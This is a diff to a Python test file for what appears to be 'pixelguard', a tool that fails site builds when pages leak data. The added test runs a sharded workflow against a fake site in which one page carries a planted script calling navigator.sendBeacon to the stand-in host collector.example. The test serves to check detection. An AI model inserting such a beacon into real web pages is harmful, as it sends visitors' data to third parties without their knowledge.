@@ -75,6 +75,30 @@ def test_the_whole_gate_on_a_leaking_site(runner: Callable[[dict[str, str]], Run
     assert [used for used, _ in ran.used] == [step["uses"] for step in STEPS if "setup-python" in step.get("uses", "")]
 
 
+@pytest.mark.browser
+def test_the_parts_of_the_shards_workflow_come_to_one_verdict(runner: Callable[[dict[str, str]], Runner]) -> None:
+    """The ready workflow's two steps, run as its machines run them, though two instead of four: one verdict of all."""
+    text = (PROJECT / "examples/workflows/shards.yml").read_text(encoding="utf-8")
+    jobs = yaml.safe_load(text.replace("${{ matrix.shard }}/4", "${{ matrix.shard }}/2"))["jobs"]
+    visit, join = (
+        next(step["with"] for step in jobs[name]["steps"] if step.get("id") == "pixelguard")
+        for name in ("shard", "verdict")
+    )
+    beacon = "<script>navigator.sendBeacon('https://collector.example/seen', 'x')</script>"
+    made = runner({"dist/index.html": CLEAN, "dist/a.html": CLEAN + beacon})
+
+    for part in ("1", "2"):
+        ran = made.run({name: value.replace("${{ matrix.shard }}", part) for name, value in visit.items()})
+        handed_on = made.workspace / f"shards/shard-{part}/pixelguard.json"
+        handed_on.parent.mkdir(parents=True)
+        shutil.move(Path(ran.outputs["report"]) / "pixelguard.json", handed_on)
+    joined = made.run(join)
+
+    report = json.loads((Path(joined.outputs["report"]) / "pixelguard.json").read_text(encoding="utf-8"))
+    assert (joined.failed, joined.outputs["verdict"], report["gaps"]) == (True, "fail", [])
+    assert {row["path"] for row in report["coverage"]["routes"]} == {"/", "/a.html"}
+
+
 def test_a_clean_site_passes_in_a_folder_below(runner: Callable[[dict[str, str]], Runner]) -> None:
     """In a folder below the repository's root a clean site passes, and SARIF goes to code scanning when asked for."""
     made = runner({"web/dist/index.html": CLEAN})
